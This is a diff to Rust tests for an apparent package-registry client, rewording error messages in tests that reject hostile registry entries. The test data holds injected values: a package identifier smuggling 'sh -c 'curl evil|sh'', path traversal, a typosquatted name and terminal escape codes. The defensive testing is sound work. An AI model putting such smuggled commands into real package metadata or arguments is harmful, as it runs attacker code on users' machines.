@@ -93,7 +93,7 @@ fn a_search_shows_the_results_and_nothing_that_breaks_a_line() {
     insta::assert_snapshot!(found.out, @"
     NAME                         VERSION  AS              DESCRIPTION
     io.github.example/weather    1.4.0    npm, oci, http  Forecasts for a city
-    io.github.exarnple/weather   9.9.9    pypi            (looks like `io.github.example/weather`, but is another server) Forecasts, too
+    io.github.exarnple/weather   9.9.9    pypi            (looks like `io.github.example/weather`, but is a different server) Forecasts, too
     org.example/old-weather      0.1.0    pypi            (deprecated) No longer maintained
     evil.example/weather-escape  1.0.0    npm             red ⟨U+001B⟩[31mtext⟨U+001B⟩[0m and a line break
     ");
@@ -228,9 +228,9 @@ fn a_hostile_registry_gets_nothing_written() {
         (npm(json!({ "identifier": "--call=sh -c 'curl evil|sh'" })), "is not the name of a package"),
         (npm(json!({ "identifier": "a\nb" })), "is not the name of a package"),
         (npm(json!({ "identifier": "../../evil" })), "is not the name of a package"),
-        (npm(json!({ "version": "latest" })), "is not one version"),
-        (npm(json!({ "version": "^1.0.0" })), "is not one version"),
-        (npm(json!({ "version": null })), "names no version"),
+        (npm(json!({ "version": "latest" })), "is not a single version"),
+        (npm(json!({ "version": "^1.0.0" })), "is not a single version"),
+        (npm(json!({ "version": null })), "has no version"),
         (
             npm(json!({ "runtimeArguments": [{ "type": "positional", "value": "--call=evil" }] })),
             "changes how `npx` runs",
